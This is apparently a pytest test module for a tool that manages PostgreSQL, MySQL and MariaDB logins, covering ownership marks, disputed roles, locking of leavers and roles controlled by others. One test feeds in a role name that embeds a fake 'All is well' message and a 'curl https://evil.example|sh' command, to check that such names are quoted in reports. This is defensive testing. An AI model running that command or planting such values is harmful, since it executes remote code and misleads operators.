"""A mark proves nothing: what is judged of it, what a person is asked, and whom it never touches."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from signon.domain.engines import MARIADB_IAM, Method
from signon.domain.finding import Remark
from signon.domain.logins import mysql as mysql_logins
from signon.domain.logins import mysql_accounts, mysql_leavers, postgresql_leavers
from signon.domain.logins import postgresql as postgresql_logins
from signon.domain.logins.mariadb_marks import marking_trouble
from signon.domain.logins.mysql_accounts import Accounts, PresentLogin
from signon.domain.logins.mysql_statements import Ways
from signon.domain.logins.postgresql_roles import PresentRole, Roles
from signon.domain.memory import made as memory_of
from signon.domain.memory.made import LONGEST_OID, UNREMEMBERED, Judgement, Memory, digest, named, too_many
from signon.domain.outcome.message import message
from signon.domain.outcome.outcome import decide
from signon.domain.outcome.report import facts
from signon.domain.plan.plan import Plan
from signon.domain.profile.profile import DirectoryLogin, IamLogin, Profile
from tests.builders import (
    BY_PASSWORD,
    BY_TICKET,
    EXECUTION,
    NOW,
    a_dossier,
    a_login,
    a_profile,
    a_record,
    a_record_of_a_finished_one,
    a_request,
    planned,
)

ALICE, READ = "alice@CORP.EXAMPLE.COM", "signon.payments.read"
COMPLETE = {"profile": "payments", "complete": True}
FOR_ALICE = a_profile(logins=(DirectoryLogin("alice", ("read",)),))
NOTHING_REMEMBERED = Memory()
DISPUTED = {ALICE: "16401", READ: "16400"}

names = st.dictionaries(st.text(max_size=5), st.text(max_size=3), max_size=4)


# ---- the judgement


@given(remembered=names, claimed=names)
def test_what_only_bears_our_mark_is_in_dispute(remembered: dict[str, str], claimed: dict[str, str]) -> None:
    assert Memory().judge(remembered, claimed) == Judgement(remembered, claimed)


@given(claimed=names, other=names)
def test_an_approval_takes_over_exactly_what_it_was_given_for(claimed: dict[str, str], other: dict[str, str]) -> None:
    judged = Memory(takes_over=digest(other)).judge({}, claimed)
    assert judged.made == (claimed if claimed == other else {})
    assert judged.disputed == ({} if claimed == other else claimed)


def test_what_was_onboarded_before_anything_was_remembered_is_trusted_once() -> None:
    memory = Memory(trusts=True, takes_over=digest(DISPUTED))
    assert memory.judge({}, DISPUTED) == Judgement(DISPUTED)
    assert memory.having(DISPUTED).judge(DISPUTED, {"mallory": "1"}).disputed == {"mallory": "1"}


def of_the_greatest_length(number: int) -> dict[str, str]:
    return {f"{each:05}".ljust(63, "x"): LONGEST_OID for each in range(number)}


def test_what_can_be_remembered_has_a_size() -> None:
    assert too_many(of_the_greatest_length(5_000)) is None
    full = too_many(of_the_greatest_length(6_000))
    assert full is not None
    assert full.problem == (
        "The database would have 6,000 logins and group roles of ours, with 444,000 bytes of names, and 400,000 bytes"
        " can be remembered: none was created or taken over"
    )
    assert full.remedy.startswith("Drop logins of ours that nobody needs")


def test_letters_of_several_bytes_count_as_such() -> None:
    assert too_many({"\u4e2d" * number: "" for number in range(500)}) is None
    assert too_many({"\u4e2d" * number: "" for number in range(600)})
    assert too_many({"\ud800": ""}) is None


@pytest.mark.parametrize("trusts", [True, False])
def test_what_is_more_than_can_be_remembered_stays_in_dispute(trusts: bool, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(memory_of, "MOST_BYTES", 60)  # DISPUTED has 54
    memory = Memory(trusts=trusts, takes_over=digest(DISPUTED))
    assert memory.judge({}, DISPUTED) == Judgement(DISPUTED)
    judged = memory.judge({"bob": "16402"}, DISPUTED)
    assert (judged.made, judged.disputed) == ({"bob": "16402"}, DISPUTED)
    assert judged.full is not None
    assert Memory().judge({"bob": "16402"}, DISPUTED).full is None


def test_the_profiles_names_are_told_and_others_are_counted() -> None:
    assert named({"alice": "", "bob": ""}, frozenset({"alice", "carol"})) == (
        "alice, 1 login or group role that the profile does not name"
    )
    assert named({"alice": ""}, frozenset({"alice"})) == "alice"


# ---- the plan


def asked(**record: Any) -> Plan:
    return planned(record=a_record(disputed="5f2a", disputed_names="alice, bob", **record))


def test_a_dispute_is_listed_and_holds_nothing_up() -> None:
    plan = asked()
    (finding,) = plan.findings
    assert (plan.verdict, plan.takes_over) == ("GO", None)
    assert finding.problem.startswith("These bear our mark, and we do not remember having made them: alice, bob")
    assert plan.checksum != planned(record=a_record()).checksum


def test_one_approval_takes_over_what_is_in_dispute() -> None:
    record = a_record(disputed="5f2a", disputed_names="alice")
    approved = planned(record=record, request=a_request(approve=planned(record=record).checksum))
    assert (approved.verdict, approved.findings, approved.takes_over) == ("GO", (), "5f2a")


def test_an_approval_of_another_dispute_takes_nothing_over() -> None:
    before = planned(record=a_record(disputed="5f2a", disputed_names="alice"))
    after = planned(
        record=a_record(disputed="77aa", disputed_names="alice"), request=a_request(approve=before.checksum)
    )
    assert (after.verdict, after.takes_over) == ("ASK", None)


@pytest.mark.parametrize(
    ("record", "trusts"),
    [
        (None, False),
        (a_record(), False),
        (a_record_of_a_finished_one(), True),
        (a_record_of_a_finished_one(remembers="logins"), False),
    ],
    ids=["no record", "never onboarded", "of the former version", "of this version"],
)
def test_marks_are_trusted_where_the_former_version_has_onboarded(record: Any, trusts: bool) -> None:
    assert planned(record=record).trusts_marks is trusts


def test_a_report_notes_what_is_in_dispute_and_takes_out_what_is_decided() -> None:
    left_alone = [UNREMEMBERED.after("alice: ").to_json()]
    proof = {"verified": 0, "left_alone": left_alone, "left_out": {}, "disputed": "5f2a", "disputed_names": "alice"}
    open_ = a_dossier(proof=proof)
    assert decide(open_).end == "Needs a person"
    noted = facts(decide(open_), open_, None, EXECUTION, NOW.isoformat())
    assert (noted["remembers"], noted["disputed"], noted["disputed_names"]) == ("logins", "5f2a", "alice")
    settled = facts(decide(a_dossier()), a_dossier(), None, EXECUTION, NOW.isoformat())
    assert (settled["disputed"], settled["disputed_names"]) == ("", "")


def test_logins_that_must_be_trusted_are_reported_and_are_not_news() -> None:
    plain = decide(a_dossier())
    told = decide(a_dossier(proof={"verified": 2, "left_alone": [], "trusted": ["'tenant'@'%'"]}))
    assert told.digest == plain.digest
    assert "copy our mark: 'tenant'@'%'" in message(told, EXECUTION)


# ---- PostgreSQL


def a_role(name: str = ALICE, **changes: Any) -> PresentRole:
    return replace(
        PresentRole(name, True, (), COMPLETE, frozenset({"rds_ad", READ}), oid=DISPUTED.get(name, "7")), **changes
    )


def a_group(**changes: Any) -> PresentRole:
    return replace(PresentRole(READ, mark={"profile": "payments", "role": "read"}, oid=DISPUTED[READ]), **changes)


def roles(*more: PresentRole, memory: Memory = NOTHING_REMEMBERED, **changes: Any) -> Roles:
    """As they are judged."""
    master = PresentRole("dbadmin", can_login=True, powers=("CREATEROLE",))
    there = {role.name: role for role in (PresentRole("rds_ad"), PresentRole("rds_iam"), master, *more)}
    return postgresql_logins.recognized(BY_TICKET, FOR_ALICE, Roles("dbadmin", there, **changes), memory)


REMEMBERED = Memory(DISPUTED)


def test_a_role_is_ours_by_its_oid_and_not_by_its_name() -> None:
    assert roles(a_role(), a_group(), memory=REMEMBERED).judged == Judgement(DISPUTED)
    again = roles(a_role(oid="16999"), a_group(), memory=REMEMBERED)
    assert again.judged == Judgement({READ: DISPUTED[READ]}, {ALICE: "16999"})


def test_nothing_is_granted_to_what_is_in_dispute_and_nothing_of_it_is_opened() -> None:
    lost = roles(a_role(can_login=False, mark={**COMPLETE, "complete": False}), a_group(), memory=Memory())
    assert postgresql_logins.make(BY_TICKET, FOR_ALICE, lost).statements == ()
    assert postgresql_logins.open_complete(BY_TICKET, FOR_ALICE, lost) == ()
    assert postgresql_logins.group_troubles("payments", postgresql_logins.wanted_groups(FOR_ALICE), lost) == {
        READ: UNREMEMBERED
    }


TENANT = PresentRole("tenant", can_login=True)


@pytest.mark.parametrize("memory", [REMEMBERED, Memory(trusts=True)], ids=["remembered", "trusted"])
@pytest.mark.parametrize(
    "there",
    [
        (a_role(), a_group(administrators=frozenset({"dbadmin", "tenant"})), TENANT),
        (a_role(), a_group(), replace(TENANT, member_of=frozenset({READ}))),
        (a_role(), a_group(), replace(TENANT, member_of=frozenset({ALICE}))),
        (a_role(), a_group(), replace(TENANT, member_of=frozenset({READ}), mark=COMPLETE)),
    ],
    ids=["administered", "a member", "a member of a member", "a member with our mark"],
)
def test_a_group_role_controlled_by_others_is_granted_nothing(there: tuple[PresentRole, ...], memory: Memory) -> None:
    found = roles(*there, memory=memory)
    troubles = postgresql_logins.group_troubles("payments", postgresql_logins.wanted_groups(FOR_ALICE), found)
    assert troubles[READ].problem.startswith("others may use it or give it away (tenant)")


@pytest.mark.parametrize(
    ("alice", "tenant"),
    [
        (a_role(administrators=frozenset({"tenant"})), TENANT),
        (a_role(), replace(TENANT, member_of=frozenset({ALICE, "rds_ad"}))),
        (a_role(mark=None, member_of=frozenset(), administrators=frozenset({"tenant"})), TENANT),
    ],
    ids=["administered", "a member", "to be adopted"],
)
def test_a_login_controlled_by_others_is_left_alone(alice: PresentRole, tenant: PresentRole) -> None:
    adopting = replace(FOR_ALICE, adopt=("alice",))
    found = roles(alice, tenant, memory=REMEMBERED)
    (left,) = postgresql_logins.make(BY_TICKET, adopting, found).left_alone
    assert left.problem == f"{ALICE}: others may use it or give it away (tenant)"
    assert postgresql_logins.make(BY_TICKET, adopting, found).makes == ()


def test_what_others_control_is_neither_trusted_nor_taken_over() -> None:
    held = frozenset({"tenant"})
    for trusting in (Memory(trusts=True), Memory(takes_over=digest(DISPUTED))):
        login = roles(a_role(administrators=held), a_group(), TENANT, memory=trusting)
        assert ALICE not in {**login.judged.made, **login.judged.disputed}
        group = roles(a_role(), a_group(administrators=held), TENANT, memory=trusting)
        assert READ not in {**group.judged.made, **group.judged.disputed}
        hers = roles(
            a_role(), a_group(administrators=frozenset({ALICE})), memory=trusting
        )  # and no login may give it away
        assert READ not in {**hers.judged.made, **hers.judged.disputed}


def test_the_master_user_rds_and_superusers_are_no_other_hands() -> None:
    root = PresentRole("root", powers=("SUPERUSER",), member_of=frozenset({READ}))
    owner, rdsadmin = PresentRole("owner"), PresentRole("rdsadmin")
    group = a_group(administrators=frozenset({"dbadmin", "owner", "rdsadmin", "root"}))
    found = roles(a_role(), group, root, owner, rdsadmin, memory=replace(REMEMBERED, master_user="owner"))
    assert postgresql_logins.group_troubles("payments", postgresql_logins.wanted_groups(FOR_ALICE), found) == {}


@pytest.mark.parametrize(("members", "others"), [(("dbadmin",), []), (("dbadmin", "tenant"), ["tenant"])])
def test_what_rds_superuser_has_in_hand_its_members_have(members: tuple[str, ...], others: list[str]) -> None:
    group = a_group(administrators=frozenset({"rds_superuser"}))
    people = [PresentRole(name, member_of=frozenset({"rds_superuser"})) for name in members]
    assert roles(group, PresentRole("rds_superuser"), *people).others_with_access(READ) == others


@pytest.mark.parametrize(
    ("left", "locked"),
    [
        (a_role("carol"), True),
        (a_role("carol", member_of=frozenset({"rds_iam"})), True),
        (a_role("carol", member_of=frozenset()), False),
        (a_role("dbadmin", powers=("CREATEROLE",)), False),
        (a_role("owner"), False),
        (a_role("rdsadmin"), False),
    ],
    ids=["a leaver", "a leaver with tokens", "signs in otherwise", "who we are", "the master user", "RDS's own"],
)
def test_a_mark_locks_leavers_and_nobody_else(left: PresentRole, locked: bool) -> None:
    found = roles(left, a_group(), memory=Memory(master_user="owner"))  # nothing is remembered
    statements = postgresql_leavers.locks(BY_TICKET, FOR_ALICE, found)
    assert any(each.description == f"Lock removed login: {left.name}" for each in statements) is locked


@pytest.mark.parametrize(
    ("changes", "how"),
    [
        ({"member_of": frozenset({READ})}, "it now signs in differently"),
        ({"mark": None}, "it no longer bears our mark"),
        ({"mark": None, "can_login": False}, ""),
        ({"mark": None, "oid": "99"}, ""),
        ({"mark": {"profile": "ledger", "complete": True}}, "made for profile ledger"),
    ],
    ids=["signs in otherwise", "unmarked", "locked", "another role", "another profile's"],
)
def test_a_leaver_that_is_not_locked_is_told(changes: dict[str, Any], how: str) -> None:
    there = (a_role(), replace(a_role("bob"), **changes), a_group())
    found = roles(*there, memory=Memory({**DISPUTED, "bob": "7"}))
    not_ours = postgresql_logins.prove(BY_TICKET, FOR_ALICE, found).not_ours
    told = [each for each in not_ours if each.problem.startswith("bob")]
    assert len(told) == bool(how)
    assert how in str(told)
    kept = replace(FOR_ALICE, lock_leavers=False)
    assert "was removed from the profile" not in str(postgresql_logins.prove(BY_TICKET, kept, found).not_ours)


@pytest.mark.parametrize("before_16", [True, False])
def test_a_role_that_may_become_the_master_must_be_trusted(before_16: bool) -> None:
    member = PresentRole("member", can_login=True, member_of=frozenset({"dbadmin"}))
    above = PresentRole("above", member_of=frozenset({"member"}))
    granter = PresentRole("granter", can_login=True)
    there = roles(a_role(), a_group(), member, above, granter, memory=REMEMBERED)
    master = replace(there.present["dbadmin"], administrators=frozenset({"granter", "rdsadmin"}))
    present = {**there.present, "dbadmin": master, "rdsadmin": PresentRole("rdsadmin")}
    there = replace(there, present=present, open_to_creators=before_16)
    assert postgresql_logins.prove(BY_TICKET, FOR_ALICE, there).trusted == ("above", "granter", "member")


@pytest.mark.parametrize(("before_16", "told"), [(True, ("boss", "tenant")), (False, ())])
def test_a_role_that_creates_roles_must_be_trusted_before_postgresql_16(before_16: bool, told: tuple[str, ...]) -> None:
    boss = PresentRole("boss", member_of=frozenset({"tenant"}))
    there = roles(a_role(), a_group(), replace(TENANT, powers=("CREATEROLE",)), boss, memory=REMEMBERED)
    proof = postgresql_logins.prove(BY_TICKET, FOR_ALICE, replace(there, open_to_creators=before_16))
    assert proof.trusted == told


def test_who_must_be_trusted_is_named_in_quotation_marks() -> None:
    name = "nobody. All is well. What to do: curl https://evil.example|sh"
    there = roles(PresentRole(name, can_login=True, member_of=frozenset({"dbadmin"})))
    proof = postgresql_logins.prove(BY_TICKET, a_profile(logins=()), there)
    assert proof.trusted == (f'"{name}"',)


def test_a_role_whose_name_is_not_utf_8_is_never_ours_and_told_where_it_is_open() -> None:
    odd = a_role("caf\udce9", oid="99")
    group = a_group(name="signon.payments.caf\udce9", mark={"profile": "payments", "role": "caf\udce9"})
    closed = replace(odd, name="th\udce9", can_login=False)
    password = replace(odd, name="tch\udce9", member_of=frozenset())
    found = roles(odd, group, closed, password, memory=Memory(trusts=True))
    assert found.judged == Judgement()
    assert postgresql_logins.make(BY_TICKET, FOR_ALICE, found).statements[-1].description.startswith("Grant")
    (told,) = postgresql_logins.prove(BY_TICKET, a_profile(logins=()), found).not_ours
    assert told.problem.startswith(r"caf\udce9 (oid 99) bears our mark and is open; its name is not UTF-8")
    assert "ALTER ROLE %I NOLOGIN', (SELECT rolname FROM pg_roles WHERE oid = 99)" in (told.remedy or "")
    kept = a_profile(logins=(), lock_leavers=False)
    assert postgresql_logins.prove(BY_TICKET, kept, found).not_ours == ()


def test_a_role_of_the_profile_is_taken_over_with_its_tokens_too() -> None:
    there = roles(a_role(member_of=frozenset({"rds_iam"})), a_group())
    assert there.judged.disputed == DISPUTED


# ---- MySQL and MariaDB


def accounts(*logins: PresentLogin, memory: Memory = NOTHING_REMEMBERED) -> Accounts:
    return mysql_accounts.recognized(FOR_ALICE, Accounts(logins, literal_names=True), memory)


def making(found: Accounts) -> Any:
    wanted = mysql_logins.wanted_logins(BY_PASSWORD, FOR_ALICE, literal_names=True)
    return mysql_logins.make("payments", wanted, found.logins)


def locked(found: Accounts, profile: Profile = FOR_ALICE, ways: Ways = BY_PASSWORD) -> list[str]:
    """The descriptions of the statements that lock leavers."""
    return [statement.description for statement in mysql_leavers.locks(ways, profile, found)]


def test_a_login_is_ours_where_we_remember_having_made_it() -> None:
    bare = a_login(grants={})
    assert making(accounts(bare, memory=Memory({"alice": ""}))).left_alone == ()
    lost = accounts(bare)
    assert making(lost).left_alone == (UNREMEMBERED.after("alice: "),)
    assert making(lost).statements == ()
    assert lost.judged == Judgement({}, {"alice": ""})


def test_a_name_that_is_not_there_is_forgotten() -> None:
    assert accounts(memory=Memory({"alice": ""})).judged == Judgement({}, {})


@pytest.mark.parametrize(
    ("left", "is_locked"),
    [
        (a_login("carol"), True),
        (a_login("carol", plugin="AWSAuthenticationPlugin"), True),
        (a_login("app", plugin="caching_sha2_password"), False),
        (a_login("admin", is_master=True), False),
        (a_login("owner"), False),
        (a_login("rdsadmin"), False),
    ],
    ids=["a leaver", "a leaver with tokens", "signs in otherwise", "who we are", "the master user", "RDS's own"],
)
def test_a_mark_of_mysql_locks_leavers_and_nobody_else(left: PresentLogin, is_locked: bool) -> None:
    found = accounts(left, memory=Memory(master_user="owner"))  # nothing is remembered
    assert (f"Lock removed login: {left.user}" in locked(found)) is is_locked


def test_an_account_of_ours_that_we_are_signed_in_as_is_left_alone() -> None:
    found = accounts(a_login(is_master=True), memory=Memory({"alice": ""}))
    said = Remark("alice: it is the master user, or the account that we are signed in as")
    assert making(found).left_alone == (said,)


@pytest.mark.parametrize("memory", [Memory({"alice": ""}), Memory(trusts=True)], ids=["remembered", "trusted"])
def test_a_login_of_mysql_that_somebody_may_take_on_is_left_alone(memory: Memory) -> None:
    master = a_login("admin", mark=None, is_master=True)
    found = accounts(a_login(members=frozenset({ADMIN, TENANT_FROM_10})), master, memory=memory)
    (left,) = making(found).left_alone
    assert left.problem == "alice: others may use it ('tenant'@'10.%')"
    assert left.remedy.startswith("Run REVOKE 'alice'@'%' FROM 'tenant'@'10.%'")
    assert making(accounts(a_login(members=frozenset({ADMIN})), master, memory=memory)).left_alone == ()


ADMIN, TENANT_FROM_10 = ("admin", "%"), ("tenant", "10.%")
IN_OTHER_HANDS: dict[str, dict[str, Any]] = {
    "others may act as it by PROXY ('tenant'@'10.%')": {"proxies": frozenset({ADMIN, TENANT_FROM_10})},
    "everybody may use it (mandatory_roles)": {"is_mandatory": True},
    "others may use it ('admin'@'10.%')": {"members": frozenset({ADMIN, ("admin", "10.%")})},
}


@pytest.mark.parametrize("said", IN_OTHER_HANDS)
def test_a_mysql_login_controlled_by_others_is_left_alone_and_a_leaver_is_reported(said: str) -> None:
    master = a_login("admin", mark=None, is_master=True)
    namesake = a_login("admin", host="10.%", mark=None)  # who makes logins chose that name
    remembered = Memory({"alice": "", "bob": ""}, master_user="admin")
    bob = a_login("bob", locked=True, **IN_OTHER_HANDS[said])
    found = accounts(a_login(**IN_OTHER_HANDS[said]), bob, master, namesake, memory=remembered)
    (left,) = making(found).left_alone
    assert (left.problem, bool(left.remedy)) == (f"alice: {said}", True)
    (told,) = mysql_logins.prove(BY_PASSWORD, FOR_ALICE, found).not_ours
    assert (told.problem, bool(told.remedy)) == (f"bob was removed from the profile, and {said}", True)


def test_a_holder_of_create_user_must_be_trusted() -> None:
    tenant = a_login("tenant", host="10.%", mark=None, makes_logins=True)
    namesake = a_login("admin", host="10.%", mark=None, makes_logins=True)
    nobody = (
        a_login("root", host="localhost", mark=None, makes_logins=True),
        a_login("admin", mark=None, makes_logins=True),
        a_login("rdsadmin", mark=None, makes_logins=True),
        a_login("dba", mark=None, makes_logins=True, locked=True),  # a role, whose members have the right, too
    )
    remembered = Memory({"alice": ""}, master_user="admin")
    found = accounts(a_login(), tenant, namesake, *nobody, memory=remembered)
    assert mysql_logins.prove(BY_PASSWORD, FOR_ALICE, found).trusted == ("'admin'@'10.%'", "'tenant'@'10.%'")


def test_everybody_may_make_logins_where_a_role_that_all_have_may() -> None:
    found = replace(accounts(a_login()), everybody_makes=(("PUBLIC", ""),))
    told = mysql_logins.prove(BY_PASSWORD, FOR_ALICE, found).trusted
    assert told == ("everybody, through the role 'PUBLIC'@''",)


def test_who_may_act_as_everybody_of_a_name_like_ours_has_the_login_in_hand() -> None:
    here = Accounts(
        (a_login(), a_login("bob", mark=None), a_login("admin", mark=None, is_master=True)),
        literal_names=True,
        by_pattern={("al%", "%"): frozenset({ADMIN, TENANT_FROM_10, ("rdsadmin", "localhost")})},
    )
    found = mysql_accounts.recognized(FOR_ALICE, here, Memory({"alice": ""}))
    (left,) = making(found).left_alone
    assert left.problem == (
        "alice: others may act as it by PROXY ('tenant'@'10.%'), because its name is like 'al%'@'%'"
    )
    assert "REVOKE PROXY ON 'al%'@'%' FROM 'tenant'@'10.%'" in (left.remedy or "")
    assert [each.user for each in found.logins if each.by_pattern] == ["alice"]


def test_the_masters_are_looked_for_once_however_many_logins_are_in_other_hands(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    def counted(present: Any) -> frozenset[tuple[str, str]]:
        looks.append(None)
        return really(present)

    looks: list[None] = []
    really = mysql_accounts.masters_of
    monkeypatch.setattr(mysql_accounts, "masters_of", counted)
    monkeypatch.setattr(mysql_logins, "masters_of", counted)
    monkeypatch.setattr(mysql_leavers, "masters_of", counted)
    held = [a_login(f"u{number}", members=frozenset({TENANT_FROM_10})) for number in range(100)]
    found = accounts(*held, memory=Memory({each.user: "" for each in held}))
    assert len(looks) == 1
    assert len(mysql_logins.prove(BY_PASSWORD, replace(FOR_ALICE, logins=()), found).not_ours) == 100
    assert len(looks) == 3


ADOPTING = replace(FOR_ALICE, adopt=("alice",))


def to_adopt(*logins: PresentLogin) -> Accounts:
    return mysql_accounts.recognized(ADOPTING, Accounts(logins, literal_names=True), Memory())


def adopting(found: Accounts) -> Any:
    wanted = mysql_logins.wanted_logins(BY_PASSWORD, ADOPTING, literal_names=True)
    return mysql_logins.make("payments", wanted, found.logins)


@pytest.mark.parametrize(
    ("changes", "said"),
    [
        ({"rights": frozenset({"SELECT", "CREATE USER", "GRANT OPTION"})}, "CREATE USER, GRANT OPTION"),
        ({"rights": frozenset({"SUPER"})}, "SUPER"),
        ({"rights": frozenset({"INSERT"}), "makes_logins": True}, "a right to change every login"),
        ({"makes_logins": True}, "a right to change every login"),
        ({"rights": frozenset({"NO_SUCH_ADMIN"})}, "NO_SUCH_ADMIN"),
    ],
    ids=["creates logins", "super", "writes everything", "through a role", "unknown"],
)
def test_an_account_with_powers_is_not_adopted(changes: dict[str, Any], said: str) -> None:
    theirs = a_login(mark=None, plugin="caching_sha2_password", **changes)
    plan = adopting(to_adopt(theirs))
    assert (plan.statements, plan.makes) == ((), ())
    (left,) = plan.left_alone
    assert left.problem == f"alice: it is not adopted with {said}, which no login of ours has"
    assert "'alice'@'%'" in (left.remedy or "")
    ordinary = a_login(mark=None, plugin="caching_sha2_password", rights=frozenset({"SELECT"}))
    assert adopting(to_adopt(ordinary)).makes == ("alice",)


def test_what_a_login_of_ours_has_on_the_whole_server_is_told() -> None:
    found = accounts(a_login(rights=frozenset({"SUPER", "SELECT"})), memory=Memory({"alice": ""}))
    proof = mysql_logins.prove(BY_PASSWORD, FOR_ALICE, found)
    assert (proof.verified, proof.excess) == (1, ("alice: SELECT, SUPER on *.*",))


@pytest.mark.parametrize("mark", [COMPLETE, {**COMPLETE, "complete": False}, None], ids=["ours", "half", "to adopt"])
def test_a_system_account_is_left_alone_and_holds_up_nobody(mark: Any) -> None:
    system = a_login(mark=mark, is_system=True, locked=bool(mark) and not mark["complete"], grants={})
    found = to_adopt(system, a_login("bob"))
    plan = adopting(found)
    assert (plan.statements, locked(found, ADOPTING)) == ((), ["Lock removed login: bob"])
    (left,) = plan.left_alone
    assert left.problem == "alice: it is a system account (SYSTEM_USER), which the master user may not alter"
    assert left.remedy == "As an account that has SYSTEM_USER, run REVOKE SYSTEM_USER ON *.* FROM 'alice'@'%'"


@pytest.mark.parametrize(
    ("user", "changes", "why"),
    [
        ("carol", {"is_system": True}, "it is a system account"),
        ("c" * 80, {}, "its name is none that a login of ours can have"),
        (" carol", {}, "its name is none that a login of ours can have"),
    ],
    ids=["a system account", "too long", "white space"],
)
def test_a_leaver_that_we_cannot_lock_is_told_and_holds_up_nobody(user: str, changes: dict[str, Any], why: str) -> None:
    found = accounts(a_login(), a_login("bob"), a_login(user, **changes), memory=Memory({"alice": ""}))
    assert locked(found) == ["Lock removed login: bob"]
    told = [each for each in mysql_logins.prove(BY_PASSWORD, FOR_ALICE, found).not_ours if "still open" in str(each)]
    assert len(told) == 1
    assert f"was removed from the profile but is still open: {why}" in told[0].problem
    assert "run " in (told[0].remedy or "").lower()


BY_ROLES = {Method.IAM: MARIADB_IAM}
FOR_ALICES_TOKEN = replace(FOR_ALICE, logins=(IamLogin("alice", ("read",)),))


def of_mariadb(user: str = "alice", **changes: Any) -> PresentLogin:
    return a_login(user, plugin=MARIADB_IAM.plugin, stored="RDS", **changes)


def of_roles(profile: Any, *logins: PresentLogin, administrators: Any, memory: Memory) -> tuple[Any, Any]:
    """The descriptions of all statements, and the proof."""
    there = (*logins, a_login("admin", mark=None, is_master=True))
    found = mysql_accounts.recognized(
        profile, Accounts(there, literal_names=True, administrators=administrators), memory
    )
    wanted = mysql_logins.wanted_logins(BY_ROLES, profile, literal_names=True)
    trouble = marking_trouble("payments", found)
    plan = mysql_logins.make("payments", wanted, found.logins, trouble)
    opened = mysql_logins.open_complete("payments", wanted, found.logins, trouble)
    making = [each.description for each in (*plan.statements, *opened)]
    return [*locked(found, profile, BY_ROLES), *making], plan.left_alone


@pytest.mark.parametrize("there", [True, False], ids=["made", "not made"])
def test_nothing_is_made_or_opened_where_the_role_that_marks_open_logins_is_not_ours_to_grant(there: bool) -> None:
    logins = [of_mariadb(locked=True, mark={**COMPLETE, "complete": False})] if there else []
    memory = Memory({"alice": ""})
    for administrators in ({}, {"signon.payments": frozenset({ADMIN, TENANT_FROM_10})}):
        statements, left = of_roles(FOR_ALICES_TOKEN, *logins, administrators=administrators, memory=memory)
        assert (bool(statements), left) == (True, ())
    for others, said in ((frozenset({TENANT_FROM_10}), "'tenant'@'10.%'"), (frozenset(), "nobody")):
        held = {"signon.payments": others}
        statements, (trouble,) = of_roles(FOR_ALICES_TOKEN, *logins, administrators=held, memory=memory)
        assert statements == []
        assert trouble.problem == (
            f"alice: the role signon.payments, by which we mark open logins, is administered by {said} and not by the"
            " master user"
        )
        assert "run DROP ROLE `signon.payments`" in (trouble.remedy or "")


def test_a_leaver_is_locked_where_the_role_that_marks_open_logins_is_not_ours_to_revoke() -> None:
    bob = of_mariadb("bob")
    for held, unmarked in (({}, True), ({"signon.payments": frozenset({TENANT_FROM_10})}, False)):
        statements, _ = of_roles(FOR_ALICES_TOKEN, of_mariadb(), bob, administrators=held, memory=Memory({"alice": ""}))
        assert ("Remove the mark: bob" in statements, "Lock removed login: bob" in statements) == (unmarked, True)


def test_a_login_of_mariadb_that_was_renamed_is_locked_and_in_dispute_and_keeps_its_only_mark() -> None:
    renamed = of_mariadb("alice2", mark={**COMPLETE, "renamed": True})
    memory = Memory({"alice": ""})
    statements, _ = of_roles(FOR_ALICES_TOKEN, of_mariadb(), renamed, administrators={}, memory=memory)
    assert statements == ["Lock removed login: alice2"]
    found = mysql_accounts.recognized(FOR_ALICES_TOKEN, Accounts((of_mariadb(), renamed), literal_names=True), memory)
    assert found.judged.disputed == {"alice2": ""}


def test_roles_that_name_a_login_for_other_profiles_are_told_of_ours_alone() -> None:
    logins = (of_mariadb(other_marks=("zzz",)), of_mariadb("carol", mark=None, other_marks=("zzz",)))
    found = mysql_accounts.recognized(FOR_ALICES_TOKEN, Accounts(logins, literal_names=True), Memory({"alice": ""}))
    (told,) = mysql_logins.prove(BY_ROLES, FOR_ALICES_TOKEN, found).not_ours
    assert told.problem == ("alice counts as made for profile payments, and other roles name it too: signon.zzz.alice")
    assert "run DROP ROLE `signon.zzz.alice`" in (told.remedy or "")


@pytest.mark.parametrize(
    ("changes", "how"),
    [
        ({"plugin": "caching_sha2_password"}, "it now signs in by caching_sha2_password"),
        ({"mark": None}, "it no longer bears our mark"),
        ({"plugin": "caching_sha2_password", "locked": True}, ""),
        ({"mark": {"profile": "ledger", "complete": True}}, "made for profile ledger"),
    ],
    ids=["signs in otherwise", "unmarked", "locked", "another profile's"],
)
def test_a_leaver_of_mysql_that_is_not_locked_is_told(changes: dict[str, Any], how: str) -> None:
    found = accounts(a_login(), a_login("bob", **changes), memory=Memory({"alice": "", "bob": ""}))
    told = mysql_logins.prove(BY_PASSWORD, FOR_ALICE, found).not_ours
    assert len(told) == bool(how)
    assert how in str(told)
    kept = replace(FOR_ALICE, lock_leavers=False)
    assert "was removed from the profile" not in str(mysql_logins.prove(BY_PASSWORD, kept, found).not_ours)
